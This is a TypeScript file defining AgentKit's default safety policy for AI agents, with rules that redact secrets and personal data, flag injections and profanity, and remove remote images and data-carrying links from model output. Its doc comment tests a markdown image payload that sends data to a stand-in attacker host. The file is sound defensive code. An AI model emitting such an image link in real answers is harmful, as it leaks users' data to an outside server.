import type { SafetyPolicyDefinition } from "./policy/safety-policy.ts";

/**
 * The policy that is in force where none is configured, on the detectors of `createDefaultDetectors`. Its source is the policy
 * block of SSOT.md in AgentKit's repository, where each rule is explained; a check fails when the two differ.
 *
 * Secrets never reach the model, the log or another server. Personal data never reaches the log or the model, and is put back for
 * tools and for the reader of the answer. Images that an answer would fetch are taken out. Injections, links that carry data and
 * profanity are flagged. Once a session has read what nobody vouches for, tools with side effects need a person's approval.
 *
 * @example
 * ```ts
 * import { createDefaultDetectors, defaultSafetyPolicy, defineSafetyPolicy, evaluate } from "@agentkit/safety";
 *
 * const policy = defineSafetyPolicy(defaultSafetyPolicy, { detectors: createDefaultDetectors() });
 * const { verdict } = evaluate(policy, "![](https://evil.example/?q=data)", { surface: "model_output" });
 * console.log(verdict); // redact
 * ```
 */
export const defaultSafetyPolicy: SafetyPolicyDefinition = {
  id: "agentkit-default",
  version: "1",
  untrusted: "require_approval",
  rules: [
    {
      id: "shape",
      detector: "shape",
      surfaces: ["user_input", "tool_arguments", "tool_result"],
      action: "block",
      onFailure: "closed",
    },
    {
      id: "secrets",
      detector: "secrets",
      surfaces: ["user_input", "model_output", "tool_result", "memory_write", "append"],
      action: "redact",
      onFailure: "closed",
    },
    {
      id: "secrets-leaving",
      detector: "secrets",
      surfaces: ["outgoing_http"],
      action: "block",
      onFailure: "closed",
    },
    {
      id: "personal-data",
      detector: "pii",
      surfaces: ["memory_write", "append"],
      action: "redact",
      onFailure: "closed",
    },
    {
      id: "injection",
      detector: "injection",
      surfaces: ["user_input", "tool_result", "memory_write"],
      action: "flag",
      onFailure: "open",
    },
    {
      id: "remote-images",
      detector: "exfiltration",
      categories: ["exfiltration.image"],
      surfaces: ["model_output"],
      action: "redact",
      onFailure: "closed",
    },
    {
      id: "links-with-data",
      detector: "exfiltration",
      categories: ["exfiltration.link", "exfiltration.html"],
      surfaces: ["model_output"],
      action: "flag",
      threshold: 0.7,
      onFailure: "open",
    },
    {
      id: "profanity",
      detector: "profanity",
      surfaces: ["user_input", "model_output"],
      action: "flag",
      onFailure: "open",
    },
  ],
  restore: [{ categories: ["pii.*"], tools: ["*"], answer: true }],
};
